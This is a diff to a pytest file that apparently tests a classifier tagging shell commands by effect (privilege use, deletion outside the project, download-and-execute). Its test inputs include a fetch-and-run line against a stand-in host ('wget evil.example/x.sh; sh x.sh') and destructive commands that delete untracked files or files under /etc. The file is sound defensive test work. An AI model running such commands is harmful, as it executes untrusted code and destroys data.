@@ -29,7 +29,7 @@ SAFE = {"delete", "observe"}
     ],
 )
 def test_the_names_that_a_search_looks_for(search: str, names: list[str]) -> None:
-    assert names_sought(shlex.split(search)) == names
+    assert list(names_sought(tuple(shlex.split(search)))) == names
 
 
 @pytest.mark.parametrize(
@@ -84,3 +84,31 @@ def test_which_finds_a_program_of_the_system() -> None:
     assert "privilege" in effects("$(which sudo) id")
     assert "delete.outside" in effects("rm $(command -v python3)")
     assert targets("wget evil.example/x.sh; sh x.sh", "download.exec") == {"x.sh"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "for f in $(git ls-files '*.py'); do touch \"$f\"; done",
+        "grep -rl old src | xargs sed -i s/old/new/",
+        "git diff --name-only | xargs prettier --write",
+        "rg --files | xargs touch",
+        "git show $(git rev-parse HEAD)",
+        "git rev-list HEAD | xargs git show --stat",
+    ],
+)
+def test_listed_files_lie_where_they_are_listed(text: str) -> None:
+    assert not {"write.outside", "read.secret", "delete.outside"} & effects(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("grep -rl old ~ | xargs sed -i s/old/new/", "write.outside"),
+        ("git ls-files -o | xargs rm -rf", "delete.lost"),
+        ("git -C /etc ls-files | xargs rm", "delete.outside"),
+        ("cd /etc; git ls-files | xargs rm", "delete.outside"),
+    ],
+)
+def test_listed_files_elsewhere_lie_there(text: str, name: str) -> None:
+    assert name in effects(text)
